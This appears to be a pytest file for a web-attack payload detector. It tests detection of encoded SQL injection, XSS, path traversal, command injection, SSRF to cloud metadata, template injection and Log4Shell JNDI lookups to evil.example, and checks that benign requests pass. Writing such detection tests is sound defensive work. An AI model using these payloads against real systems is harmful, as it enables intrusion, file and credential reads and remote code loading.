from __future__ import annotations

import pytest

from shieldwall.runtime.detect.decode import decode
from shieldwall.runtime.detect.payload import PayloadDetector
from shieldwall.runtime.events import HttpEvent

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"


def _kinds(path: str, query: str = "", ua: str = UA, referer: str = "", body: str = "") -> set[str]:
    event = HttpEvent(0.0, "203.0.113.7", "GET", path, query, 200, ua, referer, body=body)
    return {hit.kind for hit in PayloadDetector().scan(event)}


@pytest.mark.parametrize(
    ("query", "kind"),
    [
        ("id=1%27%20OR%20%271%27%3D%271", "sqli"),
        ("id=1+union+select+username,password+from+users--", "sqli"),
        ("id=1%2527%2520or%25201%253D1--", "sqli"),  # URL-encoded twice
        ("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss"),
        ("q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B", "xss"),  # HTML entities
        ("q=%u003Cimg%20src%3Dx%20onerror%3Dalert(1)%u003E", "xss"),  # %uXXXX
        ("q=\\u003csvg/onload=alert(1)\\u003e", "xss"),  # \\uXXXX
        ("file=..%2F..%2F..%2Fetc%2Fpasswd", "path-traversal"),
        ("file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "path-traversal"),  # overlong
        ("host=127.0.0.1%3B%20cat%20%2Fetc%2Fhosts", "cmdi"),
        ("host=x%7C%7Cwhoami", "cmdi"),
        ("host=%60id%60", "cmdi"),
        ("url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "ssrf"),
        ("url=http://metadata.google.internal/computeMetadata/v1/", "ssrf"),
        ("url=http://[::1]:8080/admin", "ssrf"),
        ("url=file:///etc/shadow", "ssrf"),
        ("x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "jndi"),
        ("x=${${lower:j}${upper:n}di:ldap://evil.example/a}", "jndi"),
        ("name=%7B%7B7*7%7D%7D", "ssti"),
        ("name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D", "ssti"),
        ("name=${7*7}", "ssti"),
        ("q=JaVaScRiPt:alert(1)", "xss"),
    ],
)
def test_each_encoded_payload_is_found_with_its_kind(query: str, kind: str) -> None:
    assert kind in _kinds("/page", query)


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/search", "q=rock+and+roll&page=2"),
        ("/search", "q=O%27Brien"),
        ("/api/v1/orders/42", ""),
        ("/products", "sort=price&order=desc&filter=color%3Ared"),
        ("/login", "next=%2Fdashboard"),
        ("/blog/select-the-best-union-jobs", ""),
        ("/search", "q=how+to+use+select+in+sql"),
        ("/calc", "expr=3*4"),
        ("/static/app.3f2a.js", ""),
        ("/share", "url=https%3A%2F%2Fnews.example.org%2Fstory%3Fid%3D5"),
        ("/notes", "text=I+said+%22hello%22+%26+left"),
        ("/cart", "items=%5B1%2C2%2C3%5D"),
        ("/api/search", "q=email%40example.com"),
        ("/redirect", "to=%2Fhome%23top"),
    ],
)
def test_ordinary_requests_carry_no_payload(path: str, query: str) -> None:
    assert _kinds(path, query) == set()


def test_log4shell_in_the_user_agent_and_scanner_agents_are_found() -> None:
    assert "jndi" in _kinds("/", "", ua="${jndi:ldap://evil.example/x}")
    assert "scanner" in _kinds("/", "", ua="sqlmap/1.7.2#stable (https://sqlmap.org)")
    assert "scanner" in _kinds("/", "", ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")
    assert _kinds("/", "", ua="Googlebot/2.1 (+http://www.google.com/bot.html)") == set()


def test_a_logged_body_is_scanned() -> None:
    assert "sqli" in _kinds("/login", "", body="user=admin%27--&password=x")


def test_decoding_stops_after_a_few_rounds_on_hostile_nesting() -> None:
    text = "%25" * 5000 + "41"
    assert len(decode(text)) <= len(text)
